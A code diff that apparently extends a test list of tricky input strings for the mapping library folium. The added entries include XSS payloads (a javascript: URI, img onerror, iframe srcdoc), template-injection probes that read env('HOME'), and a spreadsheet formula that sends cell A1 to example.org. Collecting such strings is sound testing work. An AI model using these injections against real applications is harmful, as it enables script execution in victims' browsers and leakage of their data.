@@ -24,6 +24,10 @@ PAYLOADS = (
     "C:\\new\\u0041 \\",
     "<!-- <script>",
     "the `Azov` unit",
+    'javascript:window.__x=1//<a href="javascript:window.__x=1">x</a>',
+    "[% 6 * 7 %] [% eval('6 * 7') %] ' || env('HOME') || '",
+    '=HYPERLINK("https://example.org/?"&A1,"x")',
+    "<template><img src=x onerror=window.__x=1></template><iframe srcdoc='<script>1</script>'>",
 )
 """Texts that stock folium runs, or dies of."""
 
